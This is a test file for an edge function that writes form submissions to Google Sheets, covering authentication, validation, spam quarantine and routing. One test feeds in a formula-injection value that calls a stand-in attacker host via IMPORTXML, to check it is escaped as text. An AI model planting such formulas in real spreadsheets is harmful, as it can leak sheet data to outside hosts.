@@ -0,0 +1,1484 @@
+import { assert, assertEquals, assertMatch } from "jsr:@std/assert@1";
+import { signRequestBody } from "../_shared/api-keys.ts";
+import type { CaptchaVerifier } from "../_shared/captcha.ts";
+import type { CorsPolicy } from "../_shared/cors.ts";
+import { createFormClient, FormApiError } from "../_shared/form-client.ts";
+import {
+  createMemoryRateLimitStore,
+  createRateLimiter,
+  type RateLimitConfig,
+} from "../_shared/rate-limiter.ts";
+import { createHandler } from "../update-colorworks-google-sheet/handler.ts";
+import { createMemoryIdempotencyStore } from "../update-colorworks-google-sheet/idempotency.ts";
+import openApiSnapshot from "../update-colorworks-google-sheet/openapi.json" with {
+  type: "json",
+};
+import { startFakeGoogleSheets } from "./fake-google-sheets.ts";
+import { generatePrivateKeyPem } from "./service-account-keys.ts";
+
+// Declared for the edge runtime in types.d.ts, which deno test does not load
+declare global {
+  const EdgeRuntime: { waitUntil(promise: Promise<unknown>): void } | undefined;
+}
+
+const SHEET_ID = "test-sheet";
+const ANON_KEY = "test-anon-key";
+const FUNCTION_URL =
+  "http://localhost/functions/v1/update-colorworks-google-sheet";
+
+const fake = startFakeGoogleSheets();
+
+Deno.env.set(
+  "GOOGLE_SERVICE_ACCOUNT_KEY",
+  JSON.stringify({
+    client_email: "tests@example.iam.gserviceaccount.com",
+    private_key: await generatePrivateKeyPem(),
+  }),
+);
+Deno.env.set("GOOGLE_SHEETS_API_URL", fake.url);
+Deno.env.set("GOOGLE_OAUTH_TOKEN_URL", fake.tokenUrl);
+Deno.env.set("SLACK_WEBHOOK_URL", fake.slackWebhookUrl);
+// Retry transient Google errors without slowing the tests down
+Deno.env.set("GOOGLE_RETRY_BASE_DELAY_MS", "1");
+// Each test starts from a new spreadsheet, so metadata is not cached
+Deno.env.set("SHEET_METADATA_TTL_SECONDS", "0");
+Deno.env.set("COLORWORKS_GOOGLE_SHEET_ID", SHEET_ID);
+Deno.env.set("SUPABASE_ANON_KEY", ANON_KEY);
+// Without a database, dead-lettering is skipped and idempotency is only
+// checked by tests that pass a memory store
+Deno.env.delete("SUPABASE_URL");
+Deno.env.delete("SHEET_SCHEMA_DRIFT_MODE");
+
+const testRateLimits: RateLimitConfig = {
+  default: { limit: 1000, windowSeconds: 60 },
+  routes: {},
+  dataTypes: {},
+  allowlist: [],
+};
+
+const newHandler = (
+  config: RateLimitConfig = testRateLimits,
+  corsPolicy: CorsPolicy = { allowedOrigins: ["*"] },
+  captchaVerifier?: CaptchaVerifier,
+) =>
+  createHandler({
+    rateLimiter: createRateLimiter(createMemoryRateLimitStore(), config),
+    corsPolicy,
+    captchaVerifier,
+  });
+
+const post = (
+  body: unknown,
+  headers: Record<string, string> = {},
+): Request =>
+  new Request(FUNCTION_URL, {
+    method: "POST",
+    headers: {
+      Authorization: `Bearer ${ANON_KEY}`,
+      "Content-Type": "application/json",
+      "x-forwarded-for": "203.0.113.10",
+      ...headers,
+    },
+    body: typeof body === "string" ? body : JSON.stringify(body),
+  });
+
+const userSignup = (email = "ada@example.com") => ({
+  dataType: "user-signup",
+  email,
+  firstName: "Ada",
+  lastName: "Lovelace",
+  createdDate: "2026-10-01",
+});
+
+const USER_SIGNUP_HEADERS = [
+  "Email",
+  "First Name",
+  "Last Name",
+  "Created Date",
+  "Signup Date",
+];
+
+// Runs a test against an empty spreadsheet on the fake server
+const sheetsTest = (
+  name: string,
+  fn: () => Promise<void>,
+) =>
+  Deno.test({
+    name,
+    fn: async () => {
+      fake.reset();
+      fake.addSpreadsheet(SHEET_ID);
+      await fn();
+    },
+    sanitizeResources: false,
+    sanitizeOps: false,
+  });
+
+Deno.test("responds to CORS preflight requests", async () => {
+  const response = await newHandler()(
+    new Request(FUNCTION_URL, { method: "OPTIONS" }),
+  );
+  assertEquals(response.status, 200);
+  assertEquals(response.headers.get("Access-Control-Allow-Origin"), "*");
+  await response.body?.cancel();
+});
+
+sheetsTest("echoes the caller's request ID", async () => {
+  const response = await newHandler()(
+    post({ data: userSignup() }, { "X-Request-Id": "req-123" }),
+  );
+  assertEquals(response.status, 200);
+  assertEquals(response.headers.get("X-Request-Id"), "req-123");
+  await response.body?.cancel();
+});
+
+sheetsTest("echoes allowed origins and rejects the rest", async () => {
+  const handler = newHandler(testRateLimits, {
+    allowedOrigins: ["https://colorworks.example", "https://*.colorworks.dev"],
+  });
+
+  const preflight = await handler(
+    new Request(FUNCTION_URL, {
+      method: "OPTIONS",
+      headers: { Origin: "https://preview.colorworks.dev" },
+    }),
+  );
+  assertEquals(preflight.status, 200);
+  assertEquals(
+    preflight.headers.get("Access-Control-Allow-Origin"),
+    "https://preview.colorworks.dev",
+  );
+  assertEquals(preflight.headers.get("Vary"), "Origin");
+  await preflight.body?.cancel();
+
+  const allowed = await handler(
+    post({ data: userSignup() }, { Origin: "https://colorworks.example" }),
+  );
+  assertEquals(allowed.status, 200);
+  assertEquals(
+    allowed.headers.get("Access-Control-Allow-Origin"),
+    "https://colorworks.example",
+  );
+  await allowed.body?.cancel();
+
+  const requestsBefore = fake.requests.length;
+  const rejected = await handler(
+    post({ data: userSignup() }, { Origin: "https://evil.example" }),
+  );
+  assertEquals(rejected.status, 403);
+  assertEquals(rejected.headers.get("Access-Control-Allow-Origin"), null);
+  assertEquals(rejected.headers.get("Vary"), "Origin");
+  await rejected.body?.cancel();
+  assertEquals(fake.requests.length, requestsBefore);
+});
+
+const API_KEYS = [
+  { name: "website", key: "website-key", dataTypes: ["live-event"] },
+  // Old and new secrets of the signup hook while it is being rotated
+  {
+    name: "signup-hook",
+    signingSecret: "old-secret",
+    dataTypes: ["user-signup"],
+  },
+  {
+    name: "signup-hook",
+    signingSecret: "new-secret",
+    dataTypes: ["user-signup"],
+  },
+  {
+    name: "dashboard",
+    key: "dashboard-key",
+    dataTypes: ["user-signup"],
+    scopes: ["admin"],
+  },
+];
+
+// Runs fn with API_KEYS configured
+const withApiKeys = async (fn: () => Promise<void>) => {
+  Deno.env.set("API_KEYS", JSON.stringify(API_KEYS));
+  try {
+    await fn();
+  } finally {
+    Deno.env.delete("API_KEYS");
+  }
+};
+
+const signedPost = async (
+  body: unknown,
+  { secret = "new-secret", timestamp = Math.floor(Date.now() / 1000) } = {},
+) => {
+  const rawBody = JSON.stringify(body);
+  const signature = await signRequestBody(secret, String(timestamp), rawBody);
+  return new Request(FUNCTION_URL, {
+    method: "POST",
+    headers: {
+      "Content-Type": "application/json",
+      "X-Api-Key-Id": "signup-hook",
+      "X-Signature-Timestamp": String(timestamp),
+      "X-Signature": `sha256=${signature}`,
+    },
+    body: rawBody,
+  });
+};
+
+sheetsTest("limits API keys to their data types", async () => {
+  await withApiKeys(async () => {
+    const handler = newHandler();
+
+    const anonKey = await handler(post({ data: userSignup() }));
+    assertEquals(anonKey.status, 401);
+    await anonKey.body?.cancel();
+
+    const outOfScope = await handler(
+      post({ data: userSignup() }, { "X-Api-Key": "website-key" }),
+    );
+    assertEquals(outOfScope.status, 403);
+    assertMatch(
+      (await outOfScope.json()).error,
+      /"website" is not allowed to submit: user-signup/,
+    );
+
+    const mixedBatch = await handler(
+      post(
+        { records: [userSignup(), { dataType: "live-event" }] },
+        { "X-Api-Key": "website-key" },
+      ),
+    );
+    assertEquals(mixedBatch.status, 403);
+    await mixedBatch.body?.cancel();
+    assertEquals(fake.requests.length, 0);
+
+    // Records without a data type get their own error, not a 403
+    const invalidRecords = await handler(
+      post(
+        {
+          records: [null, { email: "ada@example.com" }, {
+            dataType: "live-event",
+            name: "Katherine Johnson",
+            email: "katherine@example.com",
+            phoneNumber: "757-555-0101",
+            estimatedAttendees: 120,
+          }],
+        },
+        { "X-Api-Key": "website-key" },
+      ),
+    );
+    assertEquals(invalidRecords.status, 207);
+    const { results } = await invalidRecords.json();
+    assertEquals(
+      results.map((result: { success: boolean }) => result.success),
+      [false, false, true],
+    );
+    assertEquals(fake.getRows(SHEET_ID, "Live Events").length, 2);
+  });
+});
+
+sheetsTest("accepts requests signed with a current secret", async () => {
+  await withApiKeys(async () => {
+    const handler = newHandler();
+
+    for (const secret of ["old-secret", "new-secret"]) {
+      const response = await handler(
+        await signedPost({ data: userSignup() }, { secret }),
+      );
+      assertEquals(response.status, 200);
+      await response.body?.cancel();
+    }
+
+    const wrongSecret = await handler(
+      await signedPost({ data: userSignup() }, { secret: "guessed" }),
+    );
+    assertEquals(wrongSecret.status, 401);
+    assertEquals(
+      (await wrongSecret.json()).error,
+      "Invalid request signature",
+    );
+
+    const replayed = await handler(
+      await signedPost({ data: userSignup() }, {
+        timestamp: Math.floor(Date.now() / 1000) - 3600,
+      }),
+    );
+    assertEquals(replayed.status, 401);
+    assertEquals((await replayed.json()).error, "Request signature expired");
+
+    const tampered = await signedPost({ data: userSignup() });
+    const tamperedResponse = await handler(
+      new Request(tampered, {
+        body: JSON.stringify({ data: userSignup("mallory@example.com") }),
+      }),
+    );
+    assertEquals(tamperedResponse.status, 401);
+    await tamperedResponse.body?.cancel();
+  });
+});
+
+const getRows = (query: string, apiKey: string): Request =>
+  new Request(`${FUNCTION_URL}/rows?${query}`, {
+    method: "GET",
+    headers: { "X-Api-Key": apiKey, "x-forwarded-for": "203.0.113.10" },
+  });
+
+sheetsTest("reads rows back for admin API keys", async () => {
+  fake.addSpreadsheet(SHEET_ID, {
+    "User Signups": [
+      USER_SIGNUP_HEADERS,
+      [
+        "ada@example.com",
+        "Ada",
+        "Lovelace",
+        "2026-10-01",
+        "2026-10-01T09:00:00Z",
+      ],
+      [
+        "grace@example.com",
+        "Grace",
+        "Hopper",
+        "2026-10-02",
+        "2026-10-02T09:00:00Z",
+      ],
+      [],
+      [
+        "alan@example.com",
+        "Alan",
+        "Turing",
+        "2026-10-03",
+        "2026-10-03T09:00:00Z",
+      ],
+      ["ada@example.com", "Ada", "King", "2026-10-04", "2026-10-04T09:00:00Z"],
+    ],
+  });
+
+  const anonKey = await newHandler()(
+    getRows("dataType=user-signup", ANON_KEY),
+  );
+  assertEquals(anonKey.status, 403);
+  await anonKey.body?.cancel();
+
+  await withApiKeys(async () => {
+    const handler = newHandler();
+
+    const submitOnly = await handler(
+      getRows("dataType=live-event", "website-key"),
+    );
+    assertEquals(submitOnly.status, 403);
+    await submitOnly.body?.cancel();
+
+    const otherDataType = await handler(
+      getRows("dataType=live-event", "dashboard-key"),
+    );
+    assertEquals(otherDataType.status, 403);
+    await otherDataType.body?.cancel();
+
+    const filtered = await handler(
+      getRows(
+        "dataType=user-signup&filter[First Name]=ada&fields=Email,Last Name",
+        "dashboard-key",
+      ),
+    );
+    assertEquals(filtered.status, 200);
+    assertEquals((await filtered.json()).rows, [
+      { "Email": "ada@example.com", "Last Name": "Lovelace" },
+      { "Email": "ada@example.com", "Last Name": "King" },
+    ]);
+
+    const firstPage = await handler(
+      getRows(
+        "dataType=user-signup&from=2026-10-02&to=2026-10-03&fields=Email&limit=1",
+        "dashboard-key",
+      ),
+    );
+    const firstBody = await firstPage.json();
+    assertEquals(firstBody.rows, [{ "Email": "grace@example.com" }]);
+
+    const secondPage = await handler(
+      getRows(
+        `dataType=user-signup&from=2026-10-02&to=2026-10-03&fields=Email&cursor=${
+          encodeURIComponent(firstBody.nextCursor)
+        }`,
+        "dashboard-key",
+      ),
+    );
+    const secondBody = await secondPage.json();
+    assertEquals(secondBody.rows, [{ "Email": "alan@example.com" }]);
+    assertEquals(secondBody.nextCursor, null);
+
+    const unknownColumn = await handler(
+      getRows("dataType=user-signup&fields=Phone", "dashboard-key"),
+    );
+    assertEquals(unknownColumn.status, 400);
+    await unknownColumn.body?.cancel();
+  });
+});
+
+sheetsTest("ends a page early after scanning many rows", async () => {
+  const signupRow = (email: string) => [
+    email,
+    "Ada",
+    "Lovelace",
+    "2026-10-01",
+    "2026-10-01T09:00:00Z",
+  ];
+  fake.addSpreadsheet(SHEET_ID, {
+    "User Signups": [
+      USER_SIGNUP_HEADERS,
+      ...Array.from(
+        { length: 5000 },
+        (_, index) => signupRow(`user${index}@example.com`),
+      ),
+      signupRow("grace@example.com"),
+    ],
+  });
+
+  await withApiKeys(async () => {
+    const handler = newHandler();
+    const query = "dataType=user-signup&filter[Email]=grace@example.com";
+
+    const firstPage = await (await handler(
+      getRows(query, "dashboard-key"),
+    )).json();
+    assertEquals(firstPage.rows, []);
+    assert(firstPage.nextCursor);
+
+    const secondPage = await (await handler(
+      getRows(
+        `${query}&cursor=${encodeURIComponent(firstPage.nextCursor)}`,
+        "dashboard-key",
+      ),
+    )).json();
+    assertEquals(
+      secondPage.rows.map((row: { Email: string }) => row.Email),
+      ["grace@example.com"],
+    );
+    assertEquals(secondPage.nextCursor, null);
+  });
+});
+
+const bulkAssessment = (fields: Record<string, unknown> = {}) => ({
+  dataType: "bulk-assessment",
+  name: "Grace Hopper",
+  email: "grace@example.com",
+  phoneNumber: "(757) 555-0100",
+  numberOfAssessments: 25,
+  ...fields,
+});
+
+// Accepts only the token "human"
+const stubCaptchaVerifier: CaptchaVerifier = {
+  verify: (token) =>
+    Promise.resolve({
+      success: token === "human",
+      errorCodes: token === "human" ? [] : ["invalid-input-response"],
+    }),
+};
+
+sheetsTest("quarantines submissions that fail spam checks", async () => {
+  const handler = newHandler(
+    testRateLimits,
+    undefined,
+    stubCaptchaVerifier,
+  );
+
+  const submissions = [
+    bulkAssessment({ captchaToken: "human" }),
+    bulkAssessment({ captchaToken: "bot" }),
+    bulkAssessment({ captchaToken: "human", honeypot: "https://spam.example" }),
+    bulkAssessment({ captchaToken: "human", formStartedAt: Date.now() - 500 }),
+    bulkAssessment(),
+    // Sent by our backend, so not checked
+    userSignup(),
+  ];
+  for (const data of submissions) {
+    const response = await handler(post({ data }));
+    assertEquals(response.status, 200);
+    await response.body?.cancel();
+  }
+
+  assertEquals(fake.getRows(SHEET_ID, "Bulk Assessments").length, 2);
+  assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+  const [headers, ...quarantined] = fake.getRows(SHEET_ID, "Quarantine");
+  assertEquals(headers, [
+    "Quarantined At",
+    "Data Type",
+    "Reasons",
+    "Submission",
+  ]);
+  assertEquals(
+    quarantined.map((row) => row.slice(1, 3)),
+    [
+      ["bulk-assessment", "captcha-failed"],
+      ["bulk-assessment", "honeypot"],
+      ["bulk-assessment", "filled-too-fast"],
+      ["bulk-assessment", "captcha-missing"],
+    ],
+  );
+  assertEquals(JSON.parse(String(quarantined[0][3])).Name, "Grace Hopper");
+});
+
+sheetsTest("redacts quarantined submissions in debug logs", async () => {
+  const handler = newHandler(testRateLimits, undefined, stubCaptchaVerifier);
+  const lines: string[] = [];
+  const { debug } = console;
+  Deno.env.set("LOG_LEVEL", "debug");
+  console.debug = (line: string) => lines.push(line);
+  try {
+    const response = await handler(
+      post({ data: bulkAssessment({ captchaToken: "bot" }) }),
+    );
+    assertEquals(response.status, 200);
+    await response.body?.cancel();
+  } finally {
+    console.debug = debug;
+    Deno.env.delete("LOG_LEVEL");
+  }
+
+  assertEquals(fake.getRows(SHEET_ID, "Quarantine").length, 2);
+  assert(lines.some((line) => line.includes("Submission")));
+  for (const value of ["Grace Hopper", "grace@example.com", "7575550100"]) {
+    assert(!lines.some((line) => line.includes(value)), value);
+  }
+});
+
+sheetsTest("rejects requests without the anon key", async () => {
+  const response = await newHandler()(
+    post({ data: userSignup() }, { Authorization: "Bearer wrong" }),
+  );
+  assertEquals(response.status, 401);
+  await response.body?.cancel();
+  assertEquals(fake.requests.length, 0);
+});
+
+sheetsTest("rejects bodies that are not JSON", async () => {
+  const response = await newHandler()(post("{not json"));
+  assertEquals(response.status, 400);
+  assertEquals((await response.json()).error, "Invalid JSON in request body");
+});
+
+sheetsTest("rejects unknown data types and missing fields", async () => {
+  const handler = newHandler();
+
+  const unknown = await handler(post({ data: { dataType: "newsletter" } }));
+  assertEquals(unknown.status, 400);
+  assertEquals((await unknown.json()).error, "Unknown data type: newsletter");
+
+  const incomplete = await handler(
+    post({
+      data: {
+        dataType: "user-signup",
+        email: "ada@example.com",
+        lastName: " ",
+      },
+    }),
+  );
+  assertEquals(incomplete.status, 422);
+  const body = await incomplete.json();
+  assertEquals(body.error, "Invalid fields: firstName, lastName, createdDate");
+  assertEquals(body.errors[0], {
+    field: "firstName",
+    code: "required",
+    message: "Required",
+  });
+  assertEquals(fake.requests.length, 0);
+});
+
+sheetsTest("reports each invalid field with a code", async () => {
+  const handler = newHandler();
+  const validate = async (data: Record<string, unknown>) => {
+    const response = await handler(post({ data }));
+    assertEquals(response.status, 422);
+    const { errors } = await response.json();
+    return (errors as { field: string; code: string }[]).map((
+      { field, code },
+    ) => `${field}:${code}`);
+  };
+
+  assertEquals(
+    await validate({
+      ...bulkAssessment(),
+      email: "grace@",
+      phoneNumber: "555",
+      numberOfAssessments: -2,
+    }),
+    [
+      "email:invalid_format",
+      "phoneNumber:invalid_format",
+      "numberOfAssessments:too_small",
+    ],
+  );
+  assertEquals(
+    await validate({
+      dataType: "live-event",
+      name: "Katherine Johnson",
+      email: "katherine@example.com",
+      phoneNumber: "+44 20 7946 0018",
+      estimatedAttendees: "many",
+      desiredFormats: ["Keynote", "Juggling"],
+      locationInfo: { type: "Underwater" },
+      eventDate: { startDate: "2026-11-03", endDate: "2026-11-02" },
+    }),
+    [
+      "estimatedAttendees:invalid_type",
+      "desiredFormats:invalid_value",
+      "locationInfo.type:invalid_value",
+      "eventDate:invalid_range",
+    ],
+  );
+  assertEquals(
+    await validate({ ...userSignup(), createdDate: "10/01/2026", plan: "pro" }),
+    ["createdDate:invalid_format", "plan:unknown_field"],
+  );
+
+  const batch = await handler(
+    post({ records: [{ ...userSignup(), email: "not an email" }] }),
+  );
+  assertEquals(batch.status, 422);
+  assertEquals((await batch.json()).results[0].errors[0].field, "email");
+  assertEquals(fake.requests.length, 0);
+});
+
+sheetsTest("ignores extra fields of the public forms", async () => {
+  const handler = newHandler();
+  const submissions = [
+    {
+      dataType: "live-event",
+      name: "Katherine Johnson",
+      email: "katherine@example.com",
+      phoneNumber: "757-555-0101",
+      estimatedAttendees: 120,
+      isVip: true,
+      referralInfo: { source: "Conference", promoCode: "FREE" },
+    },
+    bulkAssessment({ discountPercent: 100 }),
+  ];
+  for (const data of submissions) {
+    const response = await handler(post({ data }));
+    assertEquals(response.status, 200);
+    await response.body?.cancel();
+  }
+
+  assertEquals(fake.getRows(SHEET_ID, "Live Events").length, 2);
+  assertEquals(fake.getRows(SHEET_ID, "Bulk Assessments").length, 2);
+});
+
+sheetsTest("creates a missing tab with its header row", async () => {
+  const response = await newHandler()(post({ data: userSignup() }));
+  const body = await response.json();
+
+  assertEquals(response.status, 200);
+  assertEquals(body.operation, "appended");
+  assertEquals(fake.tabNames(SHEET_ID), ["User Signups"]);
+
+  const [headers, row] = fake.getRows(SHEET_ID, "User Signups");
+  assertEquals(headers, USER_SIGNUP_HEADERS);
+  assertEquals(row.slice(0, 4), [
+    "ada@example.com",
+    "Ada",
+    "Lovelace",
+    "2026-10-01",
+  ]);
+  assertMatch(String(row[4]), /^\d{4}-\d{2}-\d{2}T/);
+});
+
+sheetsTest("writes formula-like values as text", async () => {
+  const handler = newHandler();
+  const response = await handler(
+    post({
+      data: {
+        dataType: "live-event",
+        name: '=IMPORTXML("https://attacker.example", "//a")',
+        email: "katherine@example.com",
+        phoneNumber: "757-555-0101",
+        organizationName: "@SUM(A1)",
+        websiteUrl: "https://nasa.example\u0000",
+        estimatedAttendees: 120,
+        referralInfo: { moreInfo: `-2+3 ${"x".repeat(6000)}` },
+      },
+    }),
+  );
+  assertEquals(response.status, 200);
+  await response.body?.cancel();
+
+  const [headers, values] = fake.getRows(SHEET_ID, "Live Events");
+  const row = Object.fromEntries(
+    headers.map((header, index) => [header, values[index]]),
+  );
+  assertEquals(row.Name, `'=IMPORTXML("https://attacker.example", "//a")`);
+  assertEquals(row.Organization, "'@SUM(A1)");
+  assertEquals(row.Website, "https://nasa.example");
+  assertEquals(row["Phone Number"], "'+17575550101");
+  assertEquals(row["Estimated Attendees"], 120);
+  assertEquals(String(row["Referral Info"]).length, 5000);
+  assertMatch(String(row["Referral Info"]), /^'-2\+3 x/);
+
+  // Keys still match rows whose key was written as text
+  const signup = () => post({ data: userSignup("-ada@example.com") });
+  await (await handler(signup())).body?.cancel();
+  const again = await (await handler(signup())).json();
+  assertEquals(again.operation, "updated");
+  assertEquals(
+    fake.getRows(SHEET_ID, "User Signups")[1][0],
+    "'-ada@example.com",
+  );
+});
+
+sheetsTest("maps bulk assessments to their columns", async () => {
+  const response = await newHandler()(
+    post({
+      data: {
+        dataType: "bulk-assessment",
+        name: "Grace Hopper",
+        email: "grace@example.com",
+        phoneNumber: "(757) 555-0100",
+        numberOfAssessments: 25,
+      },
+    }),
+  );
+  assertEquals(response.status, 200);
+  await response.body?.cancel();
+
+  const [headers, row] = fake.getRows(SHEET_ID, "Bulk Assessments");
+  assertEquals(headers, [
+    "Date",
+    "Name",
+    "Email",
+    "Phone Number",
+    "Number of Assessments",
+    "Submission Date",
+  ]);
+  assertMatch(String(row[0]), /^\d{4}-\d{2}-\d{2}$/);
+  assertEquals(row.slice(1, 5), [
+    "Grace Hopper",
+    "grace@example.com",
+    "'+17575550100",
+    25,
+  ]);
+});
+
+sheetsTest("flattens nested live event fields", async () => {
+  const response = await newHandler()(
+    post({
+      data: {
+        dataType: "live-event",
+        name: "Katherine Johnson",
+        email: "katherine@example.com",
+        phoneNumber: "757-555-0101",
+        organizationName: "NACA",
+        estimatedAttendees: 120,
+        desiredFormats: ["Keynote", "Workshop"],
+        specialEventInfo: { type: "Corporate", eventTypes: ["Offsite"] },
+        locationInfo: { type: "In person", city: "Hampton", state: "VA" },
+        budget: 5000,
+        eventDate: { startDate: "2026-11-02", endDate: "2026-11-03" },
+        interestedInBulkAssessments: true,
+      },
+    }),
+  );
+  assertEquals(response.status, 200);
+  await response.body?.cancel();
+
+  const [headers, row] = fake.getRows(SHEET_ID, "Live Events");
+  const cell = (column: string) => row[headers.indexOf(column)];
+  assertEquals(cell("Organization"), "NACA");
+  assertEquals(cell("Event Formats"), "Keynote, Workshop");
+  assertEquals(cell("Event Group Type"), "Corporate");
+  assertEquals(cell("City"), "Hampton");
+  assertEquals(cell("Budget"), "5000");
+  assertEquals(cell("Event Date"), "2026-11-02 to 2026-11-03");
+  assertEquals(cell("Interested In Bulk Assessments"), "Yes");
+});
+
+sheetsTest("updates the existing row for a repeated key", async () => {
+  fake.addSpreadsheet(SHEET_ID, {
+    "User Signups": [
+      USER_SIGNUP_HEADERS,
+      ["ADA@example.com", "Ada", "Byron", "2026-09-01", "2026-09-01T00:00:00Z"],
+    ],
+  });
+
+  const response = await newHandler()(post({ data: userSignup() }));
+  const body = await response.json();
+
+  assertEquals(response.status, 200);
+  assertEquals(body.operation, "updated");
+  const rows = fake.getRows(SHEET_ID, "User Signups");
+  assertEquals(rows.length, 2);
+  assertEquals(rows[1].slice(0, 4), [
+    "ada@example.com",
+    "Ada",
+    "Lovelace",
+    "2026-10-01",
+  ]);
+});
+
+sheetsTest("appends missing columns and reports the drift", async () => {
+  fake.addSpreadsheet(SHEET_ID, {
+    "User Signups": [["Email", "First Name", "Surname"]],
+  });
+
+  const response = await newHandler()(post({ data: userSignup() }));
+  assertEquals(response.status, 200);
+  await response.body?.cancel();
+
+  const [headers, row] = fake.getRows(SHEET_ID, "User Signups");
+  assertEquals(headers, [
+    "Email",
+    "First Name",
+    "Surname",
+    "Last Name",
+    "Created Date",
+    "Signup Date",
+  ]);
+  assertEquals(row.slice(0, 5), [
+    "ada@example.com",
+    "Ada",
+    null,
+    "Lovelace",
+    "2026-10-01",
+  ]);
+  assertEquals(fake.slackMessages.length, 1);
+  assertMatch(fake.slackMessages[0], /missing columns: Last Name/);
+  assertMatch(fake.slackMessages[0], /Surname/);
+});
+
+sheetsTest("writes a batch of mixed data types", async () => {
+  const response = await newHandler()(
+    post({
+      records: [
+        userSignup("ada@example.com"),
+        userSignup("grace@example.com"),
+        { dataType: "user-signup", email: "incomplete@example.com" },
+      ],
+    }),
+  );
+  const body = await response.json();
+
+  assertEquals(response.status, 207);
+  assertEquals(body.succeeded, 2);
+  assertEquals(body.failed, 1);
+  assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 3);
+});
+
+const SALES_SHEET_ID = "sales-sheet";
+
+// Runs fn with SHEET_ROUTES configured
+const withSheetRoutes = async (
+  routes: Record<string, unknown>,
+  fn: () => Promise<void>,
+) => {
+  Deno.env.set("SHEET_ROUTES", JSON.stringify(routes));
+  try {
+    await fn();
+  } finally {
+    Deno.env.delete("SHEET_ROUTES");
+  }
+};
+
+sheetsTest("routes data types to their own sheets and tabs", async () => {
+  fake.addSpreadsheet(SALES_SHEET_ID);
+  const routes = {
+    "user-signup": { tabName: "Signups" },
+    "live-event": [{}, { sheetId: SALES_SHEET_ID, tabName: "Leads" }],
+  };
+
+  await withSheetRoutes(routes, async () => {
+    const handler = newHandler();
+    const single = await handler(
+      post({
+        data: {
+          dataType: "live-event",
+          name: "Katherine Johnson",
+          email: "katherine@example.com",
+          phoneNumber: "757-555-0101",
+          estimatedAttendees: 120,
+        },
+      }),
+    );
+    assertEquals(single.status, 200);
+    await single.body?.cancel();
+
+    const batch = await handler(post({ records: [userSignup()] }));
+    assertEquals((await batch.json()).results[0].tabName, "Signups");
+  });
+
+  assertEquals(fake.getRows(SHEET_ID, "Live Events").length, 2);
+  assertEquals(fake.getRows(SALES_SHEET_ID, "Leads").length, 2);
+  assertEquals(fake.getRows(SHEET_ID, "Signups").length, 2);
+  assertEquals(fake.tabNames(SHEET_ID).includes("User Signups"), false);
+});
+
+sheetsTest(
+  "writes batch records of data types sharing a tab separately",
+  async () => {
+    await withSheetRoutes(
+      {
+        "bulk-assessment": { tabName: "Intake" },
+        "user-signup": { tabName: "Intake" },
+      },
+      async () => {
+        const handler = newHandler();
+        const batch = () => post({ records: [bulkAssessment(), userSignup()] });
+
+        const first = await handler(batch());
+        assertEquals(first.status, 200);
+        await first.body?.cancel();
+
+        // The signup is upserted on its own key column, not appended with the
+        // bulk assessment's settings
+        const second = await (await handler(batch())).json();
+        assertEquals(
+          second.results.map((result: { operation: string }) =>
+            result.operation
+          ),
+          ["appended", "updated"],
+        );
+      },
+    );
+  },
+);
+
+sheetsTest("fails a submission when a fan-out write fails", async () => {
+  fake.addSpreadsheet(SALES_SHEET_ID);
+  // Fails every attempt of the retry policy
+  fake.failNext({ pathIncludes: SALES_SHEET_ID, status: 500 }, 4);
+
+  await withSheetRoutes(
+    { "user-signup": [{}, { sheetId: SALES_SHEET_ID }] },
+    async () => {
+      const response = await newHandler()(post({ data: userSignup() }));
+      assertEquals(response.status, 500);
+      await response.body?.cancel();
+    },
+  );
+
+  assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+  assertEquals(fake.tabNames(SALES_SHEET_ID), []);
+});
+
+sheetsTest("keeps the result of a partly written batch", async () => {
+  fake.addSpreadsheet(SALES_SHEET_ID);
+  fake.failNext({ pathIncludes: SALES_SHEET_ID, status: 500 }, 4);
+
+  await withSheetRoutes(
+    { "live-event": [{ sheetId: SALES_SHEET_ID }] },
+    async () => {
+      const handler = idempotentHandler();
+      const batch = () =>
+        post({
+          records: [userSignup(), {
+            dataType: "live-event",
+            name: "Katherine Johnson",
+            email: "katherine@example.com",
+            phoneNumber: "757-555-0101",
+            estimatedAttendees: 120,
+          }],
+        }, { "Idempotency-Key": "partial-batch" });
+
+      const first = await handler(batch());
+      assertEquals(first.status, 207);
+      await first.body?.cancel();
+
+      // The retry does not write the signup a second time
+      const retry = await handler(batch());
+      assertEquals(retry.status, 207);
+      const body = await retry.json();
+      assertEquals(body.replayed, true);
+      assertEquals(body.succeeded, 1);
+    },
+  );
+
+  assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+});
+
+sheetsTest("rejects submissions when SHEET_ROUTES is invalid", async () => {
+  Deno.env.set("SHEET_ROUTES", "{not json");
+  try {
+    const response = await newHandler()(post({ data: userSignup() }));
+    assertEquals(response.status, 500);
+    assertMatch((await response.json()).error, /Invalid SHEET_ROUTES/);
+    assertEquals(fake.requests.length, 0);
+  } finally {
+    Deno.env.delete("SHEET_ROUTES");
+  }
+});
+
+sheetsTest("sends lead alerts for new rows matching the rules", async () => {
+  const liveEvent = (email: string, budget: number) => ({
+    dataType: "live-event",
+    name: "Katherine Johnson",
+    email,
+    phoneNumber: "757-555-0101",
+    organizationName: "NASA",
+    estimatedAttendees: 120,
+    budget,
+  });
+
+  Deno.env.set(
+    "LEAD_ALERTS",
+    JSON.stringify({
+      "live-event": {
+        slackWebhookUrl: fake.slackWebhookUrl,
+        rules: [{ column: "Budget", greaterThan: 10000 }],
+      },
+    }),
+  );
+  try {
+    const handler = newHandler();
+    for (
+      const data of [
+        liveEvent("small@example.com", 500),
+        liveEvent("katherine@example.com", 25000),
+        // Updates the existing row, so it is not a new lead
+        liveEvent("katherine@example.com", 30000),
+      ]
+    ) {
+      const response = await handler(post({ data }));
+      assertEquals(response.status, 200);
+      await response.body?.cancel();
+    }
+  } finally {
+    Deno.env.delete("LEAD_ALERTS");
+  }
+
+  assertEquals(fake.slackMessages, [
+    "ℹ️ *New live-event submission:* A new row was added to Live Events.",
+  ]);
+  const slackBody = fake.requests.find((request) => request.path === "/slack")
+    ?.body;
+  const blocks = JSON.parse(slackBody ?? "{}").blocks as {
+    text?: { text: string };
+    fields?: { text: string }[];
+  }[];
+  assertEquals(blocks[2].fields?.slice(0, 3).map((field) => field.text), [
+    "*Organization*\nNASA",
+    "*Estimated Attendees*\n120",
+    "*Budget*\n25000",
+  ]);
+  assertMatch(
+    blocks[3].text?.text ?? "",
+    new RegExp(`/d/${SHEET_ID}/edit#gid=\\d+&range=A3\\|`),
+  );
+});
